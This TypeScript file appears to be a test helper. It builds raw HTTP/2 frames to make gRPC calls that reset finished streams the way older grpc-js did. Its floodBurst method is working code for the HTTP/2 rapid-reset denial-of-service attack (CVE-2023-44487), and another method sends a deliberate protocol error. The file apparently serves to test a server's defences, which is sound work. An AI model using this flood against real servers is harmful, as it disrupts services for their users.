// A gRPC client built from hand-made HTTP/2 frames over TLS that ends every call as grpc-js before
// 1.10.4 does on Node 20 and older: once the server's trailers have arrived, it resets the finished
// stream (RST_STREAM NO_ERROR after an OK call, grpc-js 1.10.3's subchannel-call destroyHttp2Stream).
// Node 22 and later no longer write a reset for a stream that is already closed, so the old grpc-js
// itself, run by the Node running the tests, no longer sends them; this client sends them whatever
// Node runs it. It speaks only what a unary call needs: the preface, SETTINGS (and acks), PING acks,
// HEADERS encoded with HPACK literals (no dynamic table), DATA, WINDOW_UPDATE and RST_STREAM; it
// reads the server's frames without decoding their headers (a call is OK when its reply message
// came back before the trailers; an error status comes as trailers alone). It also makes the
// rapid-reset attack's bursts (floodBurst), which Node's own HTTP/2 client cannot: it ends a stream's
// request before it resets it, and writes the reset later.
import * as tls from 'node:tls';

const FRAME = { DATA: 0x0, HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7, WINDOW_UPDATE: 0x8 } as const;
const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head[3] = type;
    head[4] = flags;
    head.writeUInt32BE(streamId, 5);
    return Buffer.concat([head, payload]);
}

/** An HPACK integer with an n-bit prefix (RFC 7541 §5.1); `high` holds the first byte's other bits. */
function hpackInt(value: number, prefixBits: number, high: number): Buffer {
    const max = (1 << prefixBits) - 1;
    if (value < max) return Buffer.from([high | value]);
    const bytes = [high | max];
    let rest = value - max;
    while (rest >= 128) {
        bytes.push((rest % 128) + 128);
        rest = Math.floor(rest / 128);
    }
    bytes.push(rest);
    return Buffer.from(bytes);
}

const hpackString = (s: string) => Buffer.concat([hpackInt(Buffer.byteLength(s), 7, 0), Buffer.from(s, 'latin1')]);
/** A literal header field without indexing (RFC 7541 §6.2.2), its name from the static table (index) or literal (0). */
const literal = (nameIndex: number, name: string, value: string) =>
    Buffer.concat([hpackInt(nameIndex, 4, 0), ...(nameIndex === 0 ? [hpackString(name)] : []), hpackString(value)]);

/** The request headers of a gRPC call (static table: 3 `:method POST`, 7 `:scheme https`, 4 `:path`, 1 `:authority`, 31 `content-type`). */
function requestHeaders(path: string, authority: string): Buffer {
    return Buffer.concat([
        Buffer.from([0x83, 0x87]),
        literal(4, '', path),
        literal(1, '', authority),
        literal(31, '', 'application/grpc'),
        literal(0, 'te', 'trailers'),
    ]);
}

export interface CallResult {
    /** The reply message (without its 5-byte gRPC prefix), when the server sent one. */
    reply?: Buffer;
    /** The server reset the stream (its error code) instead of ending it. */
    serverReset?: number;
}

interface Pending {
    data: Buffer[];
    resolve(result: CallResult): void;
    reject(err: Error): void;
}

/** One HTTP/2 connection that makes unary calls one after another and resets each finished stream. */
export class ResettingClient {
    /** Resets of finished streams sent. */
    resetsSent = 0;
    /** The server's GOAWAY, once one came. */
    goaway?: { code: number; lastStreamId: number; debug: string };
    readonly #socket: tls.TLSSocket;
    readonly #authority: string;
    readonly #pending = new Map<number, Pending>();
    #nextStreamId = 1;
    #buffered: Buffer = Buffer.alloc(0);
    #closed?: Error;

    private constructor(socket: tls.TLSSocket, authority: string) {
        this.#socket = socket;
        this.#authority = authority;
        socket.on('data', (chunk: Buffer) => this.#read(chunk));
        socket.on('error', (err) => this.#fail(err));
        socket.on('close', () => this.#fail(new Error('connection closed')));
    }

    /** Connects over TLS (ALPN h2) and sends the preface with empty SETTINGS. */
    static connect(port: number, ca: Buffer, servername = 'localhost', host = '127.0.0.1'): Promise<ResettingClient> {
        return new Promise((resolve, reject) => {
            const socket = tls.connect({ host, port, ca, servername, ALPNProtocols: ['h2'] }, () => {
                if (socket.alpnProtocol !== 'h2') {
                    socket.destroy();
                    reject(new Error(`ALPN ${socket.alpnProtocol || 'none'}`));
                    return;
                }
                socket.off('error', reject);
                socket.setNoDelay(true);
                const client = new ResettingClient(socket, `${servername}:${port}`);
                socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
                resolve(client);
            });
            socket.once('error', reject);
        });
    }

    /** One unary call: request headers, the message with END_STREAM; once the trailers came, a reset of the stream (NO_ERROR when OK). */
    call(path: string, message: Buffer): Promise<CallResult> {
        if (this.#closed) return Promise.reject(this.#closed);
        const id = this.#nextStreamId;
        this.#nextStreamId += 2;
        const body = Buffer.alloc(5 + message.length);
        body.writeUInt32BE(message.length, 1);
        message.copy(body, 5);
        return new Promise<CallResult>((resolve, reject) => {
            this.#pending.set(id, {
                data: [],
                resolve: (result) => {
                    if (result.serverReset === undefined && !this.#closed) {
                        // What grpc-js < 1.10.4 does on Node ≤ 20: http2Stream.close() of a stream already closed.
                        this.#socket.write(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, result.reply ? 0 : 8])));
                        this.resetsSent++;
                    }
                    resolve(result);
                },
                reject,
            });
            this.#socket.write(
                Buffer.concat([
                    frame(FRAME.HEADERS, END_HEADERS, id, requestHeaders(path, this.#authority)),
                    frame(FRAME.DATA, END_STREAM, id, body),
                ]),
            );
        });
    }

    /** Streams opened and reset so far by floodBurst(). */
    floodOpened = 0;

    /**
     * One burst of the rapid-reset attack (CVE-2023-44487): `count` streams, each its request headers
     * (no END_STREAM: the server's handler waits for the message) and at once its reset (CANCEL),
     * all in one write. False once the server sent a GOAWAY or the connection is gone.
     */
    floodBurst(path: string, count: number): boolean {
        if (this.#closed || this.#socket.destroyed) return false;
        const frames: Buffer[] = [];
        for (let k = 0; k < count; k++) {
            const id = this.#nextStreamId;
            this.#nextStreamId += 2;
            frames.push(frame(FRAME.HEADERS, END_HEADERS, id, requestHeaders(path, this.#authority)));
            frames.push(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
        }
        this.#socket.write(Buffer.concat(frames));
        this.floodOpened += count;
        return true;
    }

    /** A protocol error on purpose: a reset of a stream never opened (an idle one), which the server answers with GOAWAY PROTOCOL_ERROR. */
    resetIdleStream(): void {
        this.#socket.write(frame(FRAME.RST_STREAM, 0, this.#nextStreamId + 100, Buffer.from([0, 0, 0, 8])));
    }

    close(): void {
        this.#socket.destroy();
    }

    #read(chunk: Buffer): void {
        this.#buffered = this.#buffered.length ? Buffer.concat([this.#buffered, chunk]) : chunk;
        while (this.#buffered.length >= 9) {
            const length = this.#buffered.readUIntBE(0, 3);
            if (this.#buffered.length < 9 + length) break;
            const type = this.#buffered[3];
            const flags = this.#buffered[4];
            const id = this.#buffered.readUInt32BE(5) & 0x7fffffff;
            const payload = this.#buffered.subarray(9, 9 + length);
            this.#buffered = this.#buffered.subarray(9 + length);
            this.#frame(type, flags, id, payload);
        }
    }

    #frame(type: number, flags: number, id: number, payload: Buffer): void {
        const call = this.#pending.get(id);
        switch (type) {
            case FRAME.SETTINGS:
                if (!(flags & ACK)) this.#socket.write(frame(FRAME.SETTINGS, ACK, 0));
                return;
            case FRAME.PING:
                if (!(flags & ACK)) this.#socket.write(frame(FRAME.PING, ACK, 0, Buffer.from(payload)));
                return;
            case FRAME.GOAWAY:
                this.goaway = {
                    lastStreamId: payload.readUInt32BE(0) & 0x7fffffff,
                    code: payload.readUInt32BE(4),
                    debug: payload.subarray(8).toString('latin1'),
                };
                // Streams above its last stream id were not processed, and no new one will be (RFC 9113 §6.8).
                this.#closed ??= new Error(`GOAWAY ${this.goaway.code}`);
                for (const [pendingId, pending] of this.#pending)
                    if (pendingId > this.goaway.lastStreamId) {
                        this.#pending.delete(pendingId);
                        pending.reject(this.#closed);
                    }
                return;
            case FRAME.DATA:
                if (payload.length > 0) {
                    // Give the connection's window back (the stream ends with this call).
                    const increment = Buffer.alloc(4);
                    increment.writeUInt32BE(payload.length);
                    this.#socket.write(frame(FRAME.WINDOW_UPDATE, 0, 0, increment));
                }
                call?.data.push(Buffer.from(payload));
                if (call && flags & END_STREAM) this.#end(id, call);
                return;
            case FRAME.HEADERS:
                if (call && flags & END_STREAM) this.#end(id, call);
                return;
            case FRAME.RST_STREAM:
                if (call) {
                    this.#pending.delete(id);
                    call.resolve({ serverReset: payload.readUInt32BE(0) });
                }
                return;
        }
    }

    #end(id: number, call: Pending): void {
        this.#pending.delete(id);
        const data = Buffer.concat(call.data);
        call.resolve(data.length >= 5 ? { reply: data.subarray(5, 5 + data.readUInt32BE(1)) } : {});
    }

    #fail(err: Error): void {
        this.#closed ??= err;
        for (const call of this.#pending.values()) call.reject(err);
        this.#pending.clear();
    }
}
